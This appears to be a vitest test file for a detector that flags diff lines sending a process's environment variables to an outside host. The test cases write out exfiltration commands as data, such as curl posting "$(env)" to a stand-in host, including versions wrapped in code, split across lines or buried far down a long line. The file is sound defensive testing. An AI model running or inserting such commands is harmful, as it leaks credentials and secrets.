import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { adding, changeOf, fileOf } from '../../text/test-change.ts';
import { markedDiff, placeOf } from '../removed/test-marked.ts';
import { environmentSent } from './environment-sent.ts';

const samples = join(import.meta.dirname, '../rules/workflow');
const placesIn = (path: string): readonly string[] =>
  [...environmentSent(markedDiff(path).change, new Set())].map(placeOf);
const severities = (path: string, ...lines: readonly string[]): readonly string[] =>
  [...environmentSent(adding(path, ...lines), new Set())].map(({ severity, line }) => `${severity} ${line}`);

describe('the environment that is sent away', () => {
  it('is found on each marked line and on no other', () => {
    const path = join(samples, 'environment-sent.hit.diff');
    const { marked } = markedDiff(path);
    expect(marked.length).toBeGreaterThan(10);
    expect(placesIn(path).toSorted()).toEqual(marked.toSorted());
  });

  it('is not found in what only looks like it', () => {
    expect(placesIn(join(samples, 'environment-sent.miss.diff'))).toEqual([]);
  });

  it.each<[what: string, path: string, lines: readonly string[], said: readonly string[]]>([
    ['by one command', 'a.sh', ['curl -d "$(env)" h.test'], ['high 1']],
    ['by a command within code', 'a.py', [`os.system('curl -d "$(env)" h.test')`], ['high 1']],
    ['by a command over lines', 'a.sh', ['curl h.test \\', ' -d \\', '  "$(env)"'], ['high 3']],
    ['by a later command', 'a.sh', ['all=$(env)', 'curl -d "$all" h.test'], ['medium 1']],
    ['far down a long line', 'a.js', [`${'x;'.repeat(9_000)}exec('curl -d "$(env)" h.test')`], ['high 1']],
    ['in a test', 'test/a.py', ['x = dict(os.environ)', 'requests.post(h, json=x)'], ['medium 1']],
  ])('%s', (_what, path, lines, said) => expect(severities(path, ...lines)).toEqual(said));

  it('is not what was there before: neither moved lines nor lines of context speak', () => {
    const file = fileOf('a.sh', [' curl -d "$(env)" h.test', '+curl -d "$(env)" h.test']);
    const moved = new Set(file.hunks[0]?.lines.slice(1));
    expect([...environmentSent(changeOf(file), moved)]).toEqual([]);
    expect([...environmentSent(changeOf(file), new Set())]).toHaveLength(1);
  });
});

it('names added lines alone, whatever they are', () => {
  const parts = [
    'curl ',
    '$(env)',
    'env | ',
    '\\',
    'os.environ.items()',
    'requests.get(',
    'process.env)',
    '# ',
    '`set`',
  ];
  const line = fc.tuple(
    fc.constantFrom('+', '-', ' '),
    fc.array(fc.oneof(fc.constantFrom(...parts), fc.string()), { maxLength: 5 }),
  );
  fc.assert(
    fc.property(fc.constantFrom('a.sh', 'a.py', 'a', 'a.yml'), fc.array(line, { maxLength: 12 }), (path, lines) => {
      const texts = lines.map(([sign, words]) => `${sign}${words.join('').replace(/[\r\n]/g, '')}`);
      const file = fileOf(path, texts);
      const added = new Set(
        file.hunks.flatMap((hunk) => hunk.lines.filter(({ kind }) => kind === 'added').map(({ newLine }) => newLine)),
      );
      for (const found of environmentSent(changeOf(file), new Set())) expect(added).toContain(found.line);
    }),
  );
});
